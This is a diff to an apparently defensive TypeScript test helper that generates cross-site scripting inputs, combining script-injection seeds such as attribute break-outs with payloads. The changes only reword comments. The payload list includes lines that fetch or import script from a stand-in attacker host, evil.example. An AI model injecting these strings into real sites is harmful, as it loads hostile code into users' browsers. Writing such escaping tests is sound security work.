@@ -1,4 +1,6 @@
-/** What has broken pages that wrote a stranger's text as markup, as an attribute, as an address or as a script. */
+/**
+ * Texts that have broken pages which wrote a stranger's text as markup, as an attribute, as an address or as a script.
+ */
 const SEEDS = [
   '<script>HIT</script>',
   '"><script>HIT</script>',
@@ -73,7 +75,7 @@ const SEEDS = [
 
 const HITS = ['window.hit=1', 'alert(1)', "fetch('https://evil.example/')", "import('https://evil.example/x.js')"];
 
-/** So many hostile texts: each seed with each thing it would run, in turns, told apart by a number. */
+/** `count` hostile texts: each seed with each of its payloads, in turns, distinguished by a number. */
 export function hostileTexts(count: number): string[] {
   return Array.from({ length: count }, (_, index) => {
     const seed = SEEDS[index % SEEDS.length] ?? '';
